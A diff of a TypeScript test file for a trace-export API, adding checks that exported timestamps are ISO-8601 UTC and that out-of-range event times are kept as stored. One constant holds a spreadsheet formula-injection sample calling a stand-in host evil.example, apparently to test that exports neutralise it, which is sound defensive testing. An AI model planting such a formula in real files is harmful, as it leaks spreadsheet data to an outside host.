@@ -28,6 +28,8 @@ import * as manifestRoute from '../../app/api/export/manifest/route';
 import type { FlatSpan } from '../../lib/otlp/types';
 
 const SYSTEM = { actor: 'test', role: 'system', via: 'system' };
+/** Span event times (epoch ms) as stored: fractional, the epoch, the last representable one, hostile ones. */
+const EVENT_TIMES = [1764990697123.456, 0, Date.UTC(9999, 11, 31, 23, 59, 59, 999), 1e300, -5];
 const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 
 let env: TestEnv;
@@ -206,6 +208,21 @@ describe('contents', () => {
   });
 });
 
+describe('times', () => {
+  it('every time in every kind is ISO-8601 UTC with its zone designator, never epoch numbers', async () => {
+    const iso = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3,6}Z$/;
+    const timeFields = { sagas: ['startedAt', 'endedAt'], spans: ['startedAt', 'endedAt', 'receivedAt'], audit: ['at'] } as const;
+    for (const kind of EXPORT_KINDS) {
+      const e = await doExport(`kind=${kind}&format=json`);
+      const rows = JSON.parse(e.body.toString('utf8')) as Record<string, unknown>[];
+      expect(rows.length).toBeGreaterThan(0);
+      for (const r of rows) for (const f of timeFields[kind]) if (r[f] !== null) expect(r[f], `${kind}.${f}`).toMatch(iso);
+      expect(e.manifest.startedAt).toMatch(iso);
+      expect(e.manifest.finishedAt).toMatch(iso);
+    }
+  });
+});
+
 describe('exports are audited', () => {
   it('records an intent and an ok entry carrying the manifest', async () => {
     const e = await doExport('kind=spans&format=ndjson&service=orders');
@@ -351,7 +368,8 @@ describe('spans: the COPY fast path (PostgreSQL server)', () => {
             `t${String(i).padStart(31, '0')}`, `s${i}`, i % 2 ? null : t, i % 3 ? `saga-${t}` : null, t || 'svc', t, i - 3,
             times[i % times.length], times[(i + 1) % times.length], [0, 5e-7, 1e21, -0, 0.30000000000000004, 'NaN', 'Infinity', '-Infinity', 123.456, 1e-300][i],
             i % 3, i % 2 ? t : null, t, t, null, t, i % 2 ? -2147483648 + i : null, t, t, i % 3 ? 2147483647 - i : null, t, t, t, t,
-            JSON.stringify({ t, [t]: [i, t, null, true, 1.5e300], nested: { q: '"' } }), i % 4 ? 'r1' : 'missing', i % 2 ? JSON.stringify([t]) : null,
+            JSON.stringify({ t, [t]: [i, t, null, true, 1.5e300], nested: { q: '"' } }), i % 4 ? 'r1' : 'missing',
+            i % 2 ? JSON.stringify([t, { name: t, timeMs: EVENT_TIMES[i % EVENT_TIMES.length], attributes: {} }]) : null,
             times[(i + 2) % times.length],
           ],
         );
@@ -365,6 +383,13 @@ describe('spans: the COPY fast path (PostgreSQL server)', () => {
       expect(json.map((r) => r.name)).toEqual(texts);
       expect(json[1]!.startedAt).toBe('1969-12-31T23:59:59.999999Z');
       expect(json[3]!.startedAt).toBe('9999-12-31T23:59:59.999999Z');
+      // Each event's epoch-millisecond time also as ISO-8601 UTC; hostile times are left as stored.
+      const eventTimes = json.flatMap((r) => (r.events as unknown[] | null) ?? []).filter((e): e is { timeMs: number; time?: string } => typeof e === 'object');
+      expect(eventTimes).toHaveLength(texts.length / 2);
+      for (const e of eventTimes) {
+        const inRange = e.timeMs >= 0 && e.timeMs <= Date.UTC(9999, 11, 31, 23, 59, 59, 999);
+        expect(e.time, String(e.timeMs)).toBe(inRange ? new Date(Math.floor(e.timeMs)).toISOString() : undefined);
+      }
     } finally {
       await other.close();
     }
